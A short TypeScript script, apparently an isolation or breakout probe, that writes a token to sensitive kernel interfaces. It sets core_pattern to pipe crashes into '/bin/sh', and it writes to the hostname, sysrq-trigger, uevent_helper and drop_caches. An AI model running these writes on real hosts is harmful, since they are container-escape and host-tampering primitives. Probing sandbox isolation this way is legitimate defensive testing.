import { targets } from './targets.ts';
import { write } from './tools.ts';

write('/proc/sys/kernel/core_pattern', `|/bin/sh -c touch /tmp/${targets.token}`);
write('/proc/sys/kernel/hostname', targets.token);
write('/proc/sysrq-trigger', 's');
write('/sys/kernel/uevent_helper', targets.token);
write('/proc/sys/vm/drop_caches', '1');
